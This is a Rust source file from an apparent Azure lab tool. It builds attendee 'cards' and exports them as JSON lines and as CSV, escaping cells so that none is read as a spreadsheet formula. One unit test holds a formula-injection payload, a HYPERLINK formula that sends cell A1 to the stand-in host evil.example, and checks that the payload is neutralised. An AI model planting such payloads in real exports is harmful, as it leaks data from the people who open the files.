//! A card: what an attendee needs to begin.

use std::collections::BTreeMap;

use serde::Serialize;

use crate::values::to_cell;

/// The `schema` of every line of the JSON form.
const SCHEMA: &str = "azlab.card/v1";

/// What one attendee is given. What is not known is left out.
#[derive(Clone, Debug, Default, PartialEq, Serialize)]
pub(crate) struct Card {
    /// The lab's name.
    pub(crate) lab: String,
    /// What people call the attendee.
    pub(crate) name: Option<String>,
    /// Whom to sign in as.
    pub(crate) sign_in: Option<String>,
    /// The resource group's name.
    pub(crate) resource_group: String,
    /// `swedencentral`
    pub(crate) location: Option<String>,
    /// The subscription's id.
    pub(crate) subscription: String,
    /// The tenant's id.
    pub(crate) tenant: Option<String>,
    /// The AKS cluster's name.
    pub(crate) cluster: Option<String>,
    /// The OpenAI account's name.
    pub(crate) account: Option<String>,
    /// Its endpoint, a URL.
    pub(crate) endpoint: Option<String>,
    /// The model deployment's name.
    pub(crate) deployment: Option<String>,
    /// When the lab ends, by the host's clock.
    pub(crate) ends: Option<String>,
    /// The same in RFC 3339.
    pub(crate) expires_at: Option<String>,
    /// The first commands, one a line.
    pub(crate) commands: Vec<String>,
    /// Pages of the portal, by what they show.
    pub(crate) portal: BTreeMap<&'static str, String>,
    /// The roster's other columns.
    pub(crate) more: BTreeMap<String, String>,
}

/// Cards as JSON lines.
///
/// # Errors
/// None: a card has no map with keys that are not texts, the only thing that serde_json refuses.
pub(crate) fn json_lines(cards: &[Card]) -> Result<String, serde_json::Error> {
    #[derive(Serialize)]
    struct Line<'a> {
        schema: &'static str,
        #[serde(flatten)]
        card: &'a Card,
    }
    let mut text = String::new();
    for card in cards {
        text.push_str(&serde_json::to_string(&Line { schema: SCHEMA, card })?);
        text.push('\n');
    }
    Ok(text)
}

/// Cards as a table for a mail merge: a line each, the roster's other columns at the end under their own names. No cell is a
/// formula to a spreadsheet ([`to_cell`]).
///
/// # Errors
/// None that a text in memory has.
pub(crate) fn csv(cards: &[Card]) -> Result<String, csv::Error> {
    const HEAD: [&str; 14] = [
        "lab",
        "name",
        "sign_in",
        "resource_group",
        "location",
        "subscription",
        "tenant",
        "cluster",
        "account",
        "endpoint",
        "deployment",
        "expires_at",
        "ends",
        "portal",
    ];
    let mut others: Vec<&str> = cards.iter().flat_map(|card| card.more.keys().map(String::as_str)).collect();
    others.sort_unstable();
    others.dedup();
    let mut writer = csv::Writer::from_writer(Vec::new());
    let mut write = |cells: &[&str]| writer.write_record(cells.iter().map(|cell| to_cell(cell).into_owned()));
    write(&[&HEAD[..], &others].concat())?;
    for card in cards {
        let own = [
            card.lab.as_str(),
            some(&card.name),
            some(&card.sign_in),
            &card.resource_group,
            some(&card.location),
            &card.subscription,
            some(&card.tenant),
            some(&card.cluster),
            some(&card.account),
            some(&card.endpoint),
            some(&card.deployment),
            some(&card.expires_at),
            some(&card.ends),
            card.portal.get(GROUP_PAGE).map_or("", String::as_str),
        ];
        let more = others.iter().map(|column| card.more.get(*column).map_or("", String::as_str));
        write(&own.into_iter().chain(more).collect::<Vec<_>>())?;
    }
    let bytes = writer.into_inner().map_err(|error| csv::Error::from(error.into_error()))?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

fn some(value: &Option<String>) -> &str {
    value.as_deref().unwrap_or_default()
}

/// The portal's page of the resource group, in [`Card::portal`].
pub(crate) const GROUP_PAGE: &str = "resource group";

#[cfg(test)]
mod tests {
    use super::*;
    use crate::values::from_cell;

    fn card(lab: &str) -> Card {
        Card {
            lab: lab.to_owned(),
            resource_group: format!("rg-{lab}"),
            subscription: "s".to_owned(),
            ..Card::default()
        }
    }

    #[test]
    fn a_table_keeps_what_the_roster_says_whatever_its_letters() {
        let mut ada = card("ada");
        ada.name = Some("Lovelace, \"Ada\"\nCountess".to_owned());
        ada.more.insert("table".to_owned(), "4;5".to_owned());
        let mut ben = card("ben");
        ben.more.insert("diet".to_owned(), "végan".to_owned());
        let text = csv(&[ada.clone(), ben]).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let head = reader.headers().unwrap().clone();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let of = |row: usize, column: &str| rows[row][head.iter().position(|one| one == column).unwrap()].to_owned();
        assert_eq!(
            (of(0, "name"), of(0, "table"), of(0, "diet")),
            (ada.name.unwrap(), "4;5".to_owned(), String::new())
        );
        assert_eq!(of(1, "diet"), "végan");
    }

    #[test]
    fn no_cell_of_a_table_is_a_formula_and_each_comes_back() {
        let mut eve = card("eve");
        eve.name = Some("=HYPERLINK(\"https://evil.example/\"&A1,\"Eve\")".to_owned());
        eve.more.insert("+more".to_owned(), "@eve".to_owned());
        let text = csv(&[eve.clone()]).unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let cells: Vec<String> =
            reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
        assert!(cells.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{text}");
        for text in [eve.name.as_deref().unwrap(), "+more", "@eve"] {
            assert!(cells.iter().any(|cell| cell.starts_with('\'') && from_cell(cell) == text), "{text}: {cells:?}");
        }
    }

    #[test]
    fn json_has_a_line_for_each_card() {
        let lines = json_lines(&[card("ada"), card("ben")]).unwrap();
        let first: serde_json::Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
        assert_eq!((lines.lines().count(), &first["schema"], &first["lab"]), (2, &SCHEMA.into(), &"ada".into()));
    }
}
